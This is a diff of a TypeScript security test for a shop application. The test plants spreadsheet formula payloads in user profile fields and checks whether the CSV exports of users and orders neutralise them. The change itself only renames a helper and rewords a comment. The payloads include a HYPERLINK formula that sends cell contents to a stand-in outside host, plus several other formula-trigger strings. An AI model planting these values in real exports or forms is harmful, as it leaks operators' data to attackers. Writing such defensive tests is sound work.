@@ -1,5 +1,5 @@
 import { parse } from 'csv-parse/sync';
-import { cartOfOneLot } from '../../../support/shops/shop-world.ts';
+import { makeCartOfOneLot } from '../../../support/shops/test-shop-world.ts';
 import type { Attack } from '../../attack.ts';
 import { makeAttackFindings } from '../../attack-findings.ts';
 import { makeImportFolder } from './make-import-folder.ts';
@@ -7,7 +7,7 @@ import { makeImportFolder } from './make-import-folder.ts';
 const FORMULA = '=HYPERLINK("https://far.example/?"&A1;"1")';
 const TYPED = [FORMULA, '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1'];
 
-/** What strangers and suppliers write, waiting for the operator to open an export in a spreadsheet. */
+/** The attack by what strangers and suppliers write, waiting for the operator to open an export in a spreadsheet. */
 export const exportedFormulaAttack: Attack = {
   id: '40',
   title: 'Texts that an exported file would have a spreadsheet run',
@@ -32,7 +32,7 @@ export const exportedFormulaAttack: Attack = {
       { user: { ...profile, first_name: FORMULA, last_name: '+1', address: '@SUM(1)' } },
       shopper,
     );
-    await shop.order(shopper, cartOfOneLot(await shop.lot()));
+    await shop.order(shopper, makeCartOfOneLot(await shop.lot()));
     for (const list of ['users', 'orders']) {
       const { out } = await processes.operator(list, 'list', '--format', 'csv');
       const rows = cellsOf(out).length;
